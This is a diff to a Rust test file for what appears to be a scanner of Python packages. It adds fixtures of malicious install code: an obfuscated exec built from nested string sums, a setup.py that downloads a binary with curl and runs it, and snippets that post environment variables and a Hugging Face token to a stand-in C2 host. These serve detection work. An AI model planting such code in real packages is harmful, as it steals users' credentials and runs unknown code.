@@ -621,3 +621,52 @@ fn second_round_faults() {
     }
     assert!(wrong.is_empty(), "{wrong:#?}");
 }
+
+/// Right-nested sums, joined short flags of a downloader, and more credential stores (tester
+/// t11).
+#[test]
+fn right_nested_sums_joined_flags_and_more_stores() {
+    use Severity::*;
+    let nested = format!(
+        "exec({}'' {})\n",
+        "import os;os.system('echo airlock-test')"
+            .chars()
+            .map(|c| format!("{c:?} + ("))
+            .collect::<String>(),
+        ")".repeat(40)
+    );
+    let cases: Vec<(&str, &str, String, &str, Severity)> = vec![
+        ("right-nested", "__init__.py", nested, "python-exec-computed", High),
+        (
+            "curl-sLo",
+            "setup.py",
+            "import subprocess\nsubprocess.call(['curl', '-sLo', '/tmp/.x', 'https://dl.example.invalid/x'])\nsubprocess.call(['/tmp/.x'])\n".into(),
+            "python-exec-computed",
+            Critical,
+        ),
+        (
+            "proc-environ",
+            "__init__.py",
+            "import requests\nrequests.post('https://c2.example.invalid/e', data=open('/proc/self/environ', 'rb').read())\n".into(),
+            "python-credential-stealer",
+            Critical,
+        ),
+        (
+            "hf-token",
+            "__init__.py",
+            "import os, requests\nt = open(os.path.expanduser('~/.cache/huggingface/token')).read()\nrequests.post('https://c2.example.invalid/t', data=t)\n".into(),
+            "python-credential-stealer",
+            Critical,
+        ),
+    ];
+    let dir = tempfile::tempdir().expect("tempdir");
+    let mut wrong = Vec::new();
+    for (case, file, src, rule, want) in &cases {
+        let p = package(dir.path(), case, file, src);
+        let r = scan_file(&p, BudgetLimits::default());
+        if worst(&r, rule).is_none_or(|w| w < *want) {
+            wrong.push(format!("{case}: want {rule} {want}, got {:?}", summary(&r)));
+        }
+    }
+    assert!(wrong.is_empty(), "{wrong:#?}");
+}
